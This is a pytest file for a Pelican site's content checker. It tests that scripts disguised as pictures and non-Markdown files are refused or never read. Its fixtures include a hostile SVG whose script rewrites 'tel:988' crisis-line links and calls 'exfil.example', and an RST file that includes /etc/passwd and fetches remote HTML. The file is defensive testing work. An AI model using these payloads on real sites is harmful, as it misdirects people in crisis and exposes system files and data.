"""Every file under content/ is read as what it is, or named as a problem:
pictures are pictures by their bytes, text is Markdown, and nothing lies
where the site does not look. Pelican reads Markdown and nothing else."""

import pytest
from clinic.problems import ContentError
from fixture_site import article, make_content
from pelican import Pelican
from pelican.readers import Readers
from pelican.settings import read_settings
from PIL import Image
from refusal import check, switch_off_the_check
from sitebuilder import ROOT, build, write

PNG = (ROOT / "content" / "images" / "logo.png").read_bytes()
# Finding 1 of issue 15: a "map" that rewrites the 988 links of the page framing it.
HOSTILE_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg"><script>'
    "parent.document.querySelectorAll('a[href=\"tel:988\"]')"
    ".forEach(a => a.href = 'tel:5550100');"
    "new Image().src = 'https://exfil.example/x';"
    "</script></svg>"
)
RST = "A title\n#######\n\n:date: 2026-01-05\n\n.. include:: /etc/passwd\n\n.. raw:: html\n   :url: https://exfil.example/raw\n"


def content_with(tmp_path, files):
    """A valid fixture site plus `files` ({path inside content/: text or bytes})."""
    content = make_content(tmp_path / "content", {"ok": article()})
    for name, data in files.items():
        path = content / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, bytes):
            path.write_bytes(data)
        else:
            write(path, data)
    return content


def build_fails(tmp_path, content):
    """The build's ContentError message; nothing may have been written."""
    output = tmp_path / "output"
    with pytest.raises(ContentError) as error:
        build(output, content)
    written = [p for p in output.rglob("*") if p.is_file() and ".cache" not in p.parts]
    assert written == [], written
    return str(error.value)


# --- Finding 1: content/images/ holds pictures, told by their bytes -----------


def test_a_script_in_the_picture_folder_is_refused_whatever_its_name(tmp_path):
    content = content_with(
        tmp_path,
        {
            "images/clinic-map.svg": HOSTILE_SVG,
            "images/x.html": "<!DOCTYPE html><script>alert(1)</script>",
            "images/x.js": "alert(1)",
            "images/disguised.jpg": "<html><script>alert(1)</script></html>",
            "images/renamed.jpg": PNG,
        },
    )
    assert check(content) == [
        "content/images/clinic-map.svg:1: file: is not a JPEG, PNG, WebP or GIF picture: it is "
        "an SVG drawing, which can run a script -> save it as a PNG picture, `clinic-map.png`, "
        "and delete this file",
        "content/images/disguised.jpg:1: file: is not a JPEG, PNG, WebP or GIF picture: it is "
        "a web page -> delete it, or move it out of content/: content/images/ takes pictures only",
        "content/images/renamed.jpg:1: file: is a PNG picture, but its name ends in `.jpg` "
        "-> rename it to `renamed.png` so browsers are told what it is",
        "content/images/x.html:1: file: is not a JPEG, PNG, WebP or GIF picture: it is a web "
        "page -> delete it, or move it out of content/: content/images/ takes pictures only",
        "content/images/x.js:1: file: is not a JPEG, PNG, WebP or GIF picture: it is a script "
        "-> delete it, or move it out of content/: content/images/ takes pictures only",
    ]
    message = build_fails(tmp_path, content)
    assert message.startswith("5 content problem(s)")


def test_every_picture_format_the_site_takes_passes(tmp_path):
    folder = tmp_path / "pictures"
    folder.mkdir()
    files = {}
    formats = {"a.jpg": "JPEG", "b.JPEG": "JPEG", "c.png": "PNG", "d.gif": "GIF", "e.webp": "WEBP"}
    for name, format_ in formats.items():
        Image.new("RGB", (8, 8), "teal").save(folder / name, format_)
        files[f"images/{name}"] = (folder / name).read_bytes()
    assert check(content_with(tmp_path, files)) == []


# --- Finding 2: Markdown only; no other reader runs ---------------------------


def test_pelican_reads_markdown_and_nothing_else(tmp_path):
    settings = read_settings(str(ROOT / "pelicanconf.py"), override={"OUTPUT_PATH": str(tmp_path)})
    pelican = Pelican(settings)  # loads the plugins, pelican-yaml-metadata's reader first
    assert sorted(Readers(pelican.settings).extensions) == ["markdown", "md", "static"]


def test_other_formats_are_named_and_never_read(tmp_path, monkeypatch):
    content = content_with(
        tmp_path,
        {
            "articles/included.rst": RST,
            "pages/old-page.html": "<html><head><title>Old</title></head><body>Hi</body></html>",
            "articles/spelt.mkd": article(title="Spelt"),
            "articles/other.mdown": article(title="Other"),
        },
    )
    assert check(content) == [
        "content/articles/included.rst:1: file: is a `.rst` file: the site reads only Markdown "
        "(.md) files, so it is not published -> write it in Markdown and save it as "
        "`included.md`, or delete it",
        "content/articles/other.mdown:1: file: ends in `.mdown`, which the site does not read "
        "-> rename it to `other.md`",
        "content/articles/spelt.mkd:1: file: ends in `.mkd`, which the site does not read "
        "-> rename it to `spelt.md`",
        "content/pages/old-page.html:1: file: is a `.html` file: the site reads only Markdown "
        "(.md) files, so it is not published -> write it in Markdown and save it as "
        "`old-page.md`, or delete it",
    ]
    build_fails(tmp_path, content)
    # Even with the check switched off, Pelican never runs the include.
    switch_off_the_check(monkeypatch)
    site = build(tmp_path / "unchecked", content)
    written = "".join(p.read_text(errors="replace") for p in site.rglob("*.html"))
    assert "root:" not in written
    assert "exfil.example" not in written
    assert not (site / "blog/included").exists()
    assert not (site / "old-page").exists()


# --- Finding 3 (first half): nothing is dropped without a word ---------------


def test_files_the_site_would_skip_are_named_with_the_fix(tmp_path):
    content = content_with(
        tmp_path,
        {
            "articles/Upper-Case-Ext.MD": article(title="Upper"),
            "articles/notes.md.txt": article(title="Notes"),
            "loose.md": article(title="Loose"),
            "article/misfiled.md": article(title="Misfiled"),
            "articles/photo.jpg": PNG,
            "notes.txt": "to do",
        },
    )
    assert check(content) == [
        "content/article/misfiled.md:1: file: is in content/article/, a folder the site does "
        "not read, so it is not published -> did you mean content/articles/? move the file there",
        "content/articles/Upper-Case-Ext.MD:1: file: ends in `.MD`, which the site does not "
        "read -> rename it to `Upper-Case-Ext.md`",
        "content/articles/notes.md.txt:1: file: ends in `.txt`, so the site does not read it "
        "-> rename it to `notes.md`",
        "content/articles/photo.jpg:1: file: is a picture in a folder of text files, so it is "
        "not published -> move it to content/images/ and show it with "
        "![what it shows](/images/photo.jpg)",
        "content/loose.md:1: file: is not in any of the content folders, so it is not published "
        "-> move it to content/articles/ (an article) or content/pages/ (a page)",
        "content/notes.txt:1: file: is not in any of the content folders, so it is not published "
        "-> move it into one of content/articles/, content/pages/, content/locations/, "
        "content/images/, or delete it",
    ]
    assert build_fails(tmp_path, content).startswith("6 content problem(s)")


def test_the_files_the_site_expects_pass(tmp_path):
    content = content_with(tmp_path, {"redirects.yml": "/old/: /blog/ok/\n"})
    assert (content / "authors.yml").exists()
    assert check(content) == []


def test_what_systems_and_editors_leave_behind_is_neither_named_nor_published(tmp_path):
    leftovers = {
        "images/.DS_Store": b"\x00\x00\x00\x01Bud1",
        "articles/.ok.md.swp": b"b0VIM 9.0",
        "articles/ok.md~": article(),
        "pages/#about.md#": "draft",
    }
    content = content_with(tmp_path, leftovers)
    assert check(content) == []
    site = build(tmp_path / "output", content)
    assert (site / "blog/ok/index.html").is_file()
    published = {p.name for p in site.rglob("*") if ".cache" not in p.parts}
    assert not published & {".DS_Store", ".ok.md.swp", "ok.md~", "#about.md#"}
